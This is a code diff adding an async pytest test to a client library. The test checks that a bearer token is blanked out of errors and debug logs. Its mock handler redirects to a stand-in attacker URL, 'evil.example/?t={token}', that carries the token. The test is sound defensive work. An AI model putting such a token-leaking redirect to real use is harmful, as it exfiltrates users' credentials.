@@ -267,3 +267,18 @@ async def test_a_token_at_the_first_cut_of_a_long_page_leaves_no_start() -> None
         with pytest.raises(bca.MalformedResponseError) as caught:
             await client.fetch_property("link_pre", [1])
     assert_no_piece(full_text(caught.value))
+
+
+async def test_a_redirect_that_carries_the_token_in_its_location_is_quoted_blanked(
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    async def handler(request: httpx.Request, number: int) -> httpx.Response:
+        token = request.headers["authorization"].removeprefix("Bearer ")
+        return httpx.Response(302, headers={"Location": f"https://evil.example/?t={token}"})
+
+    with caplog.at_level(logging.DEBUG, logger="braincircuits_async"):
+        async with awkward_client(handler) as client:
+            with pytest.raises(bca.APIStatusError, match=r"evil\.example/\?t=<hidden>") as caught:
+                await client.fetch_property("link_pre", [1])
+    assert_no_piece(full_text(caught.value))
+    assert_no_piece(caplog.text)
